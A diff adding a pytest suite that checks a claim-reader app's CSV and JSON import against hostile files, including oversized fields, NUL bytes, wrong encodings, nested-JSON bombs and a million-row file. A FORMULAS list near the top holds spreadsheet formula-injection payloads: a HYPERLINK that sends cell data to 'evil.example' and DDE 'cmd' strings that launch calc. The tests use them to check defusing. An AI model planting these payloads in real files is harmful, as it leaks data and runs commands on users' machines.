@@ -1,0 +1,499 @@
+"""Hostile files through `claim-reader import` and Library.import_file.
+
+Whatever arrives — formulas, huge cells, NUL bytes, the wrong encoding, the wrong columns,
+JSON nested to the bottom of the stack, a million rows with one bad one near the end — the
+outcome is one of exactly two: a clean import, or exit 1 with one `error: …` line (no
+traceback) and the library byte-for-byte as it was (and still passing its integrity check).
+"""
+
+from __future__ import annotations
+
+import codecs
+import csv
+import hashlib
+import io
+import json
+import os
+import re
+import shutil
+import sqlite3
+import subprocess
+import sys
+import textwrap
+import uuid
+from pathlib import Path
+
+import pytest
+
+from reader.documents import DocumentError
+from reader.exchange.csv_format import COLUMNS
+from reader.library import Library
+from reader.model import AnnotationKind, ClaimStatus, Source, Stance
+
+ROOT = Path(__file__).resolve().parents[1]
+CORPUS = Path(__file__).resolve().parents[2] / "shared" / "corpus"
+SEED = CORPUS / "seed" / "000_d286d3589c386401.txt"
+
+SUMMARY = re.compile(r"^added \d+, updated \d+, unchanged \d+\n$")
+TEXT_COLUMNS = (
+    "set", "document_title", "document_file", "location", "quote", "prefix", "suffix",
+    "claimant", "note", "tags", "source_title", "source_authors", "source_publisher",
+    "locator", "evidence_quote",
+)  # fmt: skip
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1",
+    "'=1+1",
+    "-3",
+)
+SHA = hashlib.sha256(b"a document this library has never opened").hexdigest()
+
+
+# -- the library and what "unchanged" means ------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def base(tmp_path_factory) -> tuple[Path, bytes, bytes]:
+    """A library with a few annotations, a citation and a set; and its CSV and JSON exports."""
+    folder = tmp_path_factory.mktemp("base")
+    path = folder / "library.sqlite"
+    library = Library(path)
+    try:
+        seed = library.open_path(SEED)
+        start, end = library.find_quote(seed, "79,770 in 2022")
+        claim = library.highlight(
+            seed, start, end, AnnotationKind.CLAIM, status=ClaimStatus.DISPUTED, note="high?"
+        )
+        source = library.add_source(Source(title="CDC data", url="https://www.cdc.gov/nchs/"))
+        library.cite(claim.id, source.id, Stance.REFUTES, locator="p. 2")
+        start, end = library.find_quote(seed, "Since 2017")
+        other = library.highlight(seed, start, end, AnnotationKind.QUESTION, tags=("when",))
+        library.add_to_set(library.ensure_set("Check").id, [claim.id, other.id])
+        csv_out, json_out = io.StringIO(newline=""), io.StringIO()
+        library.export(csv_out, "csv")
+        library.export(json_out, "json")
+    finally:
+        library.close()
+    assert not Path(f"{path}-wal").exists()  # closed cleanly: the file alone is the library
+    return path, csv_out.getvalue().encode("utf-8"), json_out.getvalue().encode("utf-8")
+
+
+@pytest.fixture
+def db(base, tmp_path: Path) -> Path:
+    """A fresh copy of the base library for one test."""
+    target = tmp_path / "lib" / "library.sqlite"
+    target.parent.mkdir()
+    shutil.copyfile(base[0], target)
+    return target
+
+
+def state(db: Path) -> tuple[list[str], list[tuple[str, int]]]:
+    """Everything in the library (SQL text of every row) and the row count of every table."""
+    conn = sqlite3.connect(db)
+    try:
+        assert conn.execute("PRAGMA integrity_check").fetchall() == [("ok",)]
+        tables = [
+            r[0]
+            for r in conn.execute(
+                "SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name"
+            )
+        ]
+        counts = [(t, conn.execute(f'SELECT COUNT(*) FROM "{t}"').fetchone()[0]) for t in tables]
+        return list(conn.iterdump()), counts
+    finally:
+        conn.close()
+
+
+def run_cli(db: Path, *args: str, timeout: float = 120) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [sys.executable, str(ROOT / "main.py"), "--db", str(db), *args],
+        capture_output=True,
+        text=True,
+        timeout=timeout,
+        cwd=ROOT,
+    )
+
+
+def check_outcome(
+    db: Path, data: bytes, tmp_path: Path, name: str = "in", *, cli: bool = True
+) -> str | None:
+    """Import `data` through the CLI, then into a second copy through Library.import_file.
+
+    Returns None for a clean import, else the error sentence (without `error: `); asserts the
+    two ways agree, that a failure is one line and changes nothing, and that a success leaves
+    a sound library. Without `cli` only the in-process import runs (into `db` itself).
+    """
+    path = tmp_path / f"{name}.dat"
+    path.write_bytes(data)
+    before = state(db)
+    if not cli:
+        library = Library(db)
+        try:
+            library.import_file(path)
+            return None
+        except DocumentError as exc:
+            assert "\n" not in str(exc)
+            return str(exc)
+        finally:
+            library.close()
+    # A second copy of the library as it is now, for the same import done in-process.
+    again = tmp_path / f"{name}-lib" / "library.sqlite"
+    again.parent.mkdir()
+    assert not Path(f"{db}-wal").exists()
+    shutil.copyfile(db, again)
+    result = run_cli(db, "import", str(path))
+    assert "Traceback" not in result.stderr, result.stderr[-3000:]
+    if result.returncode == 0:
+        assert SUMMARY.match(result.stdout), result.stdout
+        assert result.stderr == ""
+        state(db)  # integrity_check
+        cli_error = None
+    else:
+        assert result.returncode == 1, result.stderr[-3000:]
+        lines = result.stderr.splitlines()
+        assert len(lines) == 1 and lines[0].startswith("error: "), result.stderr[-3000:]
+        assert len(lines[0]) < 400, lines[0]
+        assert result.stdout == ""
+        assert state(db) == before, "a failed import changed the library"
+        cli_error = lines[0].removeprefix("error: ")
+    # The same file into the same starting library, in this process (as the GUI does it).
+    again_before = state(again)
+    library = Library(again)
+    try:
+        library.import_file(path)
+        in_process_error = None
+    except DocumentError as exc:  # ImportFailed and friends: a sentence for the user
+        in_process_error = str(exc)
+    finally:
+        library.close()
+    assert in_process_error == cli_error
+    if in_process_error is not None:
+        assert state(again) == again_before
+    return cli_error
+
+
+# -- building files ------------------------------------------------------------------------------
+
+
+def table(data: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+
+
+def serialize(rows: list[list[str]], terminator: str = "\r\n") -> bytes:
+    out = io.StringIO(newline="")
+    csv.writer(out, lineterminator=terminator).writerows(rows)
+    return out.getvalue().encode("utf-8")
+
+
+def new_row(**cells: str) -> list[str]:
+    """A valid data row for a new annotation on a document the library has never seen."""
+    row = dict.fromkeys(COLUMNS, "")
+    row.update(
+        annotation_id=str(uuid.uuid4()), document_title="Doc", document_file="doc.txt",
+        document_sha256=SHA, start="10", end="20", quote="ten chars!", kind="claim",
+        created_at="2026-01-01T00:00:00Z", updated_at="2026-01-01T00:00:00Z",
+    )  # fmt: skip
+    row.update(cells)
+    return [row[c] for c in COLUMNS]
+
+
+CITED = {
+    "citation_id": "8f0c6d52-3f7a-4c55-9a4e-0d6f4f3b2a11",
+    "stance": "supports",
+    "source_title": "A source",
+}
+
+
+def csv_of(*rows: list[str], terminator: str = "\r\n") -> bytes:
+    return serialize([list(COLUMNS), *rows], terminator)
+
+
+def first_item(json_data: bytes) -> dict:
+    return json.loads(json_data)["items"][0]
+
+
+def line_starting(data: bytes, needle: str) -> int:
+    return data.count(b"\n", 0, data.index(needle.encode())) + 1
+
+
+# -- formulas ------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("column", COLUMNS)
+def test_a_formula_in_any_column_is_a_clean_outcome(column, db, tmp_path):
+    formula = FORMULAS[COLUMNS.index(column) % len(FORMULAS)]
+    cited = CITED if COLUMNS.index(column) >= COLUMNS.index("citation_id") else {}
+    before = state(db)
+    data = csv_of(new_row(), new_row(**{**cited, column: formula}))
+    error = check_outcome(db, data, tmp_path, cli=False)
+    if column in TEXT_COLUMNS:
+        assert error is None, error
+    if error is not None:
+        assert error.startswith("line 3: "), error
+        assert state(db) == before
+
+
+def test_a_formula_in_a_typed_column_through_the_cli(db, tmp_path):
+    error = check_outcome(db, csv_of(new_row(), new_row(kind="=1+1")), tmp_path)
+    assert error is not None and error.startswith("line 3: kind"), error
+
+
+def test_formulas_in_every_text_cell_import_and_export_defused(db, tmp_path):
+    rows = []
+    for n, formula in enumerate(FORMULAS):
+        cells = {c: formula for c in TEXT_COLUMNS}
+        cells["set"] = f"set {n} {formula}"
+        rows.append(new_row(**{**cells, **CITED, "citation_id": str(uuid.uuid4())}))
+    assert check_outcome(db, csv_of(*rows), tmp_path) is None
+    library = Library(db)
+    try:
+        notes = {a.note for a in library.all_annotations()}
+    finally:
+        library.close()
+    # Export's own quote is taken off on import ('=1+1 → =1+1), and nothing else is.
+    expected = {f[1:] if f.startswith("'") and f[1:2] in "=+-@\t\r" else f for f in FORMULAS}
+    assert expected <= notes
+    out = run_cli(db, "export", "--all", "--format", "csv")
+    assert out.returncode == 0, out.stderr
+    for row in table(out.stdout.encode("utf-8"))[1:]:
+        for cell in row:
+            risky = cell[:1] in ("=", "+", "-", "@", "\t", "\r")
+            assert not risky or re.fullmatch(r"-?\d+(\.\d+)?", cell), (cell, row)
+
+
+# -- sizes ---------------------------------------------------------------------------------------
+
+
+def test_a_ten_megabyte_field(db, tmp_path):
+    huge = "x" * (10 * 1024 * 1024)
+    error = check_outcome(db, csv_of(new_row(note=huge)), tmp_path, "csv")
+    if error is None:
+        library = Library(db)
+        try:
+            assert max(len(a.note) for a in library.all_annotations()) == len(huge)
+        finally:
+            library.close()
+    else:
+        assert error.startswith("line 2: "), error
+
+
+def test_a_ten_megabyte_json_string(base, db, tmp_path):
+    item = first_item(base[2])
+    item["id"] = f"urn:uuid:{uuid.uuid4()}"
+    item["body"] = {"type": "TextualBody", "value": "y" * (10 * 1024 * 1024)}
+    check_outcome(db, json.dumps({"items": [item]}).encode(), tmp_path)
+
+
+# -- bytes that are not what they claim ------------------------------------------------------
+
+
+def test_nul_bytes(base, db, tmp_path):
+    data = csv_of(new_row(), new_row(note="before\x00after"))
+    assert check_outcome(db, data, tmp_path, "csv").startswith("line 3: ")
+    raw_json = base[2].replace(b'"Annotation"', b'"Anno\x00tation"', 1)
+    assert check_outcome(db, raw_json, tmp_path, "json") is not None
+    escaped = base[2].replace(b'"high?"', b'"high\\u0000?"', 1)
+    assert escaped != base[2]
+    check_outcome(db, escaped, tmp_path, "escaped")  # valid JSON: either way, cleanly
+
+
+@pytest.mark.parametrize(
+    "encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "latin-1", "cp1252"]
+)
+def test_files_not_in_utf8_are_refused_saying_so(encoding, db, tmp_path):
+    text = csv_of(new_row(), new_row(note="café, naïve")).decode("utf-8")
+    error = check_outcome(db, text.encode(encoding), tmp_path)
+    assert error is not None and "UTF-8" in error, error
+    if encoding in ("latin-1", "cp1252"):
+        assert error.startswith("line 3: "), error
+
+
+@pytest.mark.parametrize("encoding", ["utf-16", "latin-1"])
+def test_json_not_in_utf8_is_refused_saying_so(encoding, base, db, tmp_path):
+    text = base[2].decode("utf-8").replace("high?", "café")
+    error = check_outcome(db, text.encode(encoding), tmp_path)
+    assert error is not None and "UTF-8" in error, error
+
+
+def test_a_byte_order_mark_is_fine(base, db, tmp_path):
+    assert check_outcome(db, codecs.BOM_UTF8 + csv_of(new_row()), tmp_path, "csv") is None
+    assert check_outcome(db, codecs.BOM_UTF8 + base[2], tmp_path, "json") is None
+
+
+def test_binary_junk(db, tmp_path):
+    junk = bytes(range(256)) * 64 + os.urandom(0)  # deterministic: every byte value
+    assert check_outcome(db, junk, tmp_path, "junk") is not None
+    assert check_outcome(db, b"\x89PNG\r\n\x1a\n" + junk, tmp_path, "png") is not None
+    assert check_outcome(db, b"", tmp_path, "empty").startswith("line 1: ")
+
+
+# -- columns -------------------------------------------------------------------------------------
+
+
+def test_wrong_missing_and_extra_columns(db, tmp_path):
+    renamed = [c if c != "quote" else "Quote text" for c in COLUMNS]
+    assert check_outcome(db, serialize([renamed, new_row()]), tmp_path, "renamed").startswith(
+        "line 1: "
+    )
+    missing = [list(COLUMNS[:-1]), new_row()[:-1]]
+    assert check_outcome(db, serialize(missing), tmp_path, "missing").startswith("line 1: ")
+    shuffled = [list(reversed(COLUMNS)), list(reversed(new_row()))]
+    assert check_outcome(db, serialize(shuffled), tmp_path, "shuffled").startswith("line 1: ")
+    extra = [[*COLUMNS, "mine"], [*new_row(), "x"]]
+    check_outcome(db, serialize(extra), tmp_path, "extra")  # a clean outcome either way
+    short = csv_of(new_row(), new_row()[:20], new_row())
+    assert check_outcome(db, short, tmp_path, "short").startswith("line 3: ")
+    long = csv_of(new_row(), new_row(), [*new_row(), "surplus"])
+    assert check_outcome(db, long, tmp_path, "long").startswith("line 4: ")
+    header_only = serialize([list(COLUMNS)])
+    assert check_outcome(db, header_only, tmp_path, "header") is None
+
+
+def test_a_row_of_the_wrong_kind_of_thing(db, tmp_path):
+    """Not a CSV export at all, but looks like CSV."""
+    other = b"name,age\r\nalice,30\r\nbob,40\r\n"
+    assert check_outcome(db, other, tmp_path, "other").startswith("line 1: ")
+    quotes = csv_of(new_row()) + b'"unterminated,quote\r\n' + b"x," * 40 + b"\r\n"
+    assert check_outcome(db, quotes, tmp_path, "quotes").startswith("line 3: ")
+
+
+# -- line endings --------------------------------------------------------------------------------
+
+
+def test_crlf_and_lf_mixed_and_newlines_inside_cells(db, tmp_path):
+    rows = [
+        new_row(note="one\ntwo"),
+        new_row(note="three\r\nfour"),
+        new_row(note="five"),
+    ]
+    data = (
+        csv_of(rows[0], terminator="\n") + serialize([rows[1]], "\r\n") + serialize([rows[2]], "\n")
+    )
+    assert b"\r\n" in data and b"e\n" in data
+    assert check_outcome(db, data, tmp_path, "mixed") is None
+    library = Library(db)
+    try:
+        notes = {a.note for a in library.all_annotations()}
+    finally:
+        library.close()
+    assert {"one\ntwo", "three\r\nfour", "five"} <= notes
+    bad = new_row(kind="nonsense")
+    broken = data + serialize([bad], "\n")
+    line = line_starting(broken, bad[1])
+    assert line == 7  # header, 2 + 2 lines of cells with a newline, 1 more, then this one
+    assert check_outcome(db, broken, tmp_path, "broken").startswith(f"line {line}: ")
+
+
+def test_old_mac_line_endings(db, tmp_path):
+    check_outcome(db, csv_of(new_row(), new_row(), terminator="\r"), tmp_path)
+
+
+# -- JSON shapes ---------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("depth", [200, 5_000, 200_000])
+def test_json_nested_deeply(depth, base, db, tmp_path):
+    bomb = b"[" * depth + b"]" * depth
+    assert check_outcome(db, bomb, tmp_path, "list") is not None
+    in_items = b'{"items": ' + b"[" * depth + b"]" * depth + b"}"
+    assert check_outcome(db, in_items, tmp_path, "items") is not None
+    item = json.dumps(first_item(base[2])).encode()
+    inside = item[:-1] + b', "x": ' + b'{"a":' * depth + b"1" + b"}" * depth + b"}"
+    check_outcome(db, b'{"items": [' + inside + b"]}", tmp_path, "inside")
+
+
+def test_json_with_200k_items_of_garbage(base, db, tmp_path):
+    for name, items in {
+        "numbers": list(range(200_000)),
+        "objects": [{"type": "Annotation", "id": i} for i in range(200_000)],
+        "strings": ["garbage"] * 200_000,
+    }.items():
+        error = check_outcome(db, json.dumps({"items": items}).encode(), tmp_path, name)
+        assert error is not None and error.startswith("item 1: "), error
+    # 199,999 good copies would be an import; one good item, then garbage, fails at item 2.
+    good = first_item(base[2])
+    tail = json.dumps({"items": [good] + [[0]] * 200_000}).encode()
+    assert check_outcome(db, tail, tmp_path, "tail").startswith("item 2: ")
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["null", "42", '"a string"', "true", "{}", '{"items": 3}', "[", '{"items": [', "[1,]"],
+)
+def test_json_that_is_not_a_collection(text, db, tmp_path):
+    assert check_outcome(db, text.encode(), tmp_path) is not None
+
+
+# -- a million rows ------------------------------------------------------------------------------
+
+HUGE_ROWS = int(os.environ.get("CLAIM_READER_TEST_HUGE_ROWS", "50000"))
+
+RSS_HELPER = textwrap.dedent(
+    """
+    import json, resource, subprocess, sys
+    done = subprocess.run(sys.argv[1:], capture_output=True, text=True)
+    peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss  # KiB on Linux
+    print(json.dumps({"rc": done.returncode, "out": done.stdout, "err": done.stderr,
+                      "peak_mb": peak / 1024}))
+    """
+)
+
+
+def write_rows(path: Path, rows: int, bad_at: int) -> None:
+    """A CSV of `rows` valid annotations, except row `bad_at` (0-based) whose start is "x"."""
+    tail = ",claim,,,,,,,2026-01-01T00:00:00Z,2026-01-01T00:00:00Z" + "," * 12 + "\r\n"
+    with path.open("w", encoding="utf-8", newline="") as out:
+        out.write(",".join(COLUMNS) + "\r\n")
+        for i in range(rows):
+            start = "x" if i == bad_at else str(i)
+            out.write(
+                f",{i:08x}-0000-4000-8000-000000000000,Doc,doc.txt,{SHA},,,{start},{i + 5},"
+                f"quote {i},,{tail}"
+            )
+
+
+@pytest.mark.skipif(sys.platform != "linux", reason="ru_maxrss is in KiB on Linux")
+def test_many_rows_with_one_bad_row_near_the_end(db, tmp_path):
+    """Every row is imported (streamed, in one transaction) until the bad one; then all of it
+    is rolled back, the error names the line, and memory stayed bounded all the while.
+
+    CLAIM_READER_TEST_HUGE_ROWS=1000000 runs the full million (measured: 213 MB file, error on
+    line 999,992, nothing imported, peak RSS 263 MB, about 5-8 minutes on 2 cores: the import
+    costs ~200 µs a row); the default of 50,000 keeps this file inside its time budget.
+    """
+    path = tmp_path / "many.csv"
+    bad_at = HUGE_ROWS - 7
+    write_rows(path, HUGE_ROWS, bad_at)
+    before = state(db)
+    helper = tmp_path / "rss.py"
+    helper.write_text(RSS_HELPER, encoding="utf-8")
+    done = subprocess.run(
+        [
+            sys.executable,
+            str(helper),
+            sys.executable,
+            str(ROOT / "main.py"),
+            "--db",
+            str(db),
+            "import",
+            str(path),
+        ],
+        capture_output=True,
+        text=True,
+        timeout=900,
+        cwd=ROOT,
+    )
+    assert done.returncode == 0, done.stderr
+    report = json.loads(done.stdout)
+    assert report["rc"] == 1, report["err"][-3000:]
+    lines = report["err"].splitlines()
+    assert len(lines) == 1, report["err"][-3000:]
+    assert lines[0].startswith(f'error: line {bad_at + 2}: start "x" '), lines[0]
+    assert report["out"] == ""
+    assert report["peak_mb"] < 400, report["peak_mb"]
+    assert state(db) == before
